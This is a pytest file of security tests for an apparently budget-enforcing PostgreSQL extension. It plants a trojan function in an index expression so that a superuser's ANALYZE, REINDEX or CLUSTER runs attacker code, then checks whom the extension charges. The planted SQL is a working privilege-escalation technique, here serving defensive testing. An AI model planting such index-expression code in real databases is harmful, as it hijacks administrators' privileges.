"""Code planted in an index expression is run by a superuser's ANALYZE: then the superuser would pay for it."""

import pytest
from tests.attacks.target import ASK, Target, ask_until_refused
from tests.databases import Connection

PLANT = f"""
    CREATE TABLE extra.trap (n int);
    CREATE TABLE extra.loot (answer bigint);
    CREATE FUNCTION extra.steal() RETURNS void LANGUAGE plpgsql VOLATILE AS
    $$ BEGIN INSERT INTO extra.loot {ASK}; EXCEPTION WHEN OTHERS THEN NULL; END $$;
    CREATE FUNCTION extra.bait(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN n; END $$;
    CREATE INDEX ON extra.trap (extra.bait(n));
    INSERT INTO extra.trap SELECT n FROM generate_series(1, 5) n;
    CREATE OR REPLACE FUNCTION extra.bait(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN PERFORM extra.steal(); RETURN n; END $$;
"""


@pytest.mark.parametrize("maintenance", ["ANALYZE extra.trap", "REINDEX TABLE extra.trap", "CLUSTER extra.trap"])
def test_maintenance_asks_nothing_on_behalf_of_others(target: Target, mallory: Connection, maintenance: str) -> None:
    target.admin.execute("SELECT discreet.grant_budget('people', 'mallory', 0.2)")
    mallory.execute(PLANT)
    mallory.execute("ALTER TABLE extra.trap CLUSTER ON trap_bait_idx")
    assert ask_until_refused(mallory) == 2
    target.admin.execute(maintenance)
    assert target.admin.execute("SELECT DISTINCT role FROM discreet._charge").fetchall() == [("mallory",)]
    assert target.value("SELECT count(*) FROM extra.loot") == 0


def test_planted_code_runs_as_whoever_maintains(target: Target, mallory: Connection) -> None:
    """The plant works where nobody asks who is at the keyboard."""
    mallory.execute(PLANT.replace(ASK, "SELECT CASE session_user WHEN 'postgres' THEN 1 ELSE 0 END"))
    target.admin.execute("ANALYZE extra.trap")
    assert target.value("SELECT max(answer) FROM extra.loot") == 1
